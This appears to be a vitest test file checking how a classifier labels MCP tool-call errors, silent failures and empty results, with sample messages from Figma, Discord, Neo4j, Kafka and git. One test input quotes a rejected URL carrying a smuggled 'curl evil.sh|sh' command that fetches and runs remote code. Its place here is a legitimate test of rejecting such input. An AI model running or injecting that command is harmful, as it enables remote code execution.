import { describe, expect, it } from "vitest";
import { classify, type CallReport, type Classification } from "@/lib/classify";
import { answered, failedWith } from "./helpers";

// Round XIV's lessons (tuned on once round XV was being captured blind by helpers who write no
// rules), each rule with the other side beside it: statuses and codes where more clients put them,
// the words of chat platforms, graph databases, Kafka and git, a failure's list of guesses, answers
// that failed without saying so, and answers that found nothing beside their metadata.

const call = (response: unknown, tool = "t", httpStatus = 200): Classification =>
  classify({ method: "tools/call", server: "s", tool, httpStatus, response } as CallReport);

describe("statuses and codes where more clients put them", () => {
  it.each([
    [
      "Failed to get transaction (404): Not Found: Transaction with ID 1999999999 not found",
      "http_404",
      "validation",
    ],
    [
      "Error fetching file: Figma API rate limit hit (429). Retry after 52 seconds.",
      "http_429",
      "rate_limited",
    ],
    [
      "fatal: unable to access 'https://github.com/acme/weather/': The requested URL returned error: 503",
      "http_503",
      "transient",
    ],
    [
      "MCP error -32603: Discord API Error: Invalid Form Body\ncontent[BASE_TYPE_MAX_LENGTH]: Must be 2000 or fewer in length.",
      "BASE_TYPE_MAX_LENGTH",
      "validation",
    ],
    [
      "Error fetching URL(s): https://a.example/x: SOURCE_NOT_AVAILABLE; https://b.example/: CRAWL_TIMEOUT",
      "SOURCE_NOT_AVAILABLE",
      undefined,
    ],
  ])("%s → %s", (text, code, category) => {
    const got = failedWith(text);
    expect(got.errorCode).toBe(code);
    if (category) expect(got.category).toBe(category);
  });

  it("the other side: a number in parentheses that is not followed by the failure's words is no status", () => {
    expect(failedWith("Failed to import rows (404 of 1,000 done) before the deadline").errorCode).not.toBe(
      "http_404",
    );
  });
});

describe("the words of chat platforms, graph databases, Kafka and git", () => {
  it.each([
    [
      "MCP error -32603: Error: The bot is not a member of the target server or lacks required permissions.",
      "permission",
    ],
    ['{"success": false, "error": "Missing Access"}', "permission"],
    ['{"success": false, "error": "Maximum number of guild channels reached (500)"}', "business"],
    ['Upload failed (HTTP 403): {"error": "Agent suspended: too many reports rejected"}', "business"],
    ["fatal: could not read Username for 'https://github.com': terminal prompts disabled", "auth"],
    ["web_search_exa error (400): x-api-key header is invalid", "auth"],
    ["Database 'neo4j' is unavailable.", "transient"],
    [
      "ForsetiClient[transactionId=4187] can't acquire ExclusiveLock{owner=ForsetiClient[transactionId=4185]} on NODE(0)",
      "transient",
    ],
    ["Error executing describe_consumer_group: Failed to find group coordinator", "transient"],
    ["Error executing produce: This server does not host this topic-partition", "validation"],
    [
      "Error executing produce: The request included a message larger than the max message size the server will accept",
      "validation",
    ],
    ["Expected parameter(s): name", "validation"],
    ["/ by zero", "validation"],
    [
      "There is no procedure with the name `apoc.meta.schema` registered for this database instance.",
      "validation",
    ],
    ['{"success": false, "error": "Cannot send an empty message"}', "validation"],
    ['{"error": "symbols must contain 1 to 100 non-empty strings"}', "validation"],
    ["Error: Provide either tool_definitions or source_url (Git repo URL).", "validation"],
    ["Error: Rejected URL with suspicious characters: https://x.example/a;curl evil.sh|sh", "validation"],
    ["Error: Failed to create label: Label name exists or conflicts", "validation"],
    ['Error: Failed to delete label: Cannot delete system label with ID "INBOX".', "validation"],
  ])("%s → %s", (text, category) => {
    expect(failedWith(text).category).toBe(category);
  });

  it("the other side: an MCP session a 400 does not know is the request's, not a login's; a 500 fetched is internal", () => {
    expect(
      call(
        {
          jsonrpc: "2.0",
          id: 1,
          error: { code: -32000, message: "Bad Request: missing or invalid session" },
        },
        "t",
        400,
      ).category,
    ).toBe("validation");
    expect(
      failedWith("Failed to make request to Figma API: Fetch failed with status 500: Internal Server Error")
        .category,
    ).toBe("internal");
    expect(failedWith("Error executing fetch: failed to find the file").category).not.toBe("transient");
  });
});

describe("a failure that lists its guesses", () => {
  it("is read up to them: a 403 that may be a revoked token, a missing scope or a file's setting is what it said first", () => {
    const text = `Error fetching file: Request to Figma API endpoint '/files/Hn6s' returned 403 Forbidden.
Response body: {"status":403,"err":"File not exportable"}

Depending on the specific error message above, the issue may be one of the following:
- The access token is missing required scopes
- The access token has been revoked, mistyped, or expired`;
    expect(failedWith(text).category).toBe("permission");
  });
});

describe("answers that failed without saying so", () => {
  it.each([
    [
      'Upload failed (HTTP 400): {\n  "error": "risk_score must be a number between 0 and 100"\n}',
      "validation",
    ],
    ['Upload failed (HTTP 401): {\n  "error": "Invalid API key"\n}', "auth"],
    ["❌ Error: ", undefined],
    [
      "message: Unprocessable Entity\nerrors[1]:\n  - errMsg: Category has dependencies. Set force=true to delete anyway.",
      "validation",
    ],
  ])("%s is a silent failure", (text, category) => {
    const got = answered(text);
    expect(got.silentFailure).toBe(true);
    if (category) expect(got.category).toBe(category);
  });

  it("an argument list refused by zod, from a tool named like a search, is the call's own failure", () => {
    const text =
      'Error: [\n  {\n    "code": "invalid_type",\n    "expected": "string",\n    "received": "number",\n    "path": ["query"],\n    "message": "Expected string, received number"\n  }\n]';
    expect(answered(text, "search_emails")).toMatchObject({
      silentFailure: true,
      category: "validation",
      errorCode: "invalid_type",
    });
  });

  it("the other side: success words and a message that is no status stay successes", () => {
    expect(answered("Upload succeeded (HTTP 201): report 18342 stored").silentFailure).toBe(false);
    expect(answered("message: All good\ncount: 3").silentFailure).toBe(false);
    // Issues as the data a tool returns (a linter's findings), with no failure's words before them.
    expect(
      answered('[{"code": "invalid_type", "path": ["a"], "message": "Expected string"}]', "list_findings")
        .silentFailure,
    ).toBe(false);
  });
});

describe("answers that found nothing beside their metadata", () => {
  it.each([
    [
      '{"total_count": 0, "stocks": [], "metadata": {"source": "scanner", "requested_count": 10, "returned_count": 0}}',
      "screen_stocks",
    ],
    [
      '{"channel": {"id": "1187", "name": "quiet-room", "type": "text"}, "messageCount": 0, "messages": []}',
      "read_messages",
    ],
    ["has_more: false", "get_transactions"],
  ])("%s is empty", (text, tool) => {
    expect(answered(text, tool)).toMatchObject({ silentFailure: false, empty: true });
  });

  it("the other side: what was found, or more to come, is not empty", () => {
    expect(
      answered('{"total_count": 2, "stocks": [], "metadata": {"requested_count": 10}}', "screen_stocks")
        .empty,
    ).toBe(false);
    expect(answered("has_more: true", "get_transactions").empty).toBe(false);
  });

  it("a tool that gets a view, a calendar or a schedule gets a listing: nothing in it is empty, not missing", () => {
    expect(answered('{"value": []}', "get-calendar-view")).toMatchObject({
      silentFailure: false,
      empty: true,
    });
    expect(answered("[]", "get_user").silentFailure).toBe(true);
  });

  it("an answer that found nothing and names what it could not find: those names do not exist", () => {
    const text =
      '{"total_count": 0, "symbols": [], "metadata": {"requested_count": 1, "missing_symbols": ["NASDAQ:ZZZQX"]}}';
    expect(answered(text, "get_quotes")).toMatchObject({
      silentFailure: true,
      category: "validation",
      flags: expect.arrayContaining(["empty_lookup"]),
    });
    const found =
      '{"total_count": 1, "symbols": [{"symbol": "NASDAQ:AAPL"}], "metadata": {"missing_symbols": ["NASDAQ:ZZZQX"]}}';
    expect(answered(found, "get_quotes").silentFailure).toBe(false);
  });
});
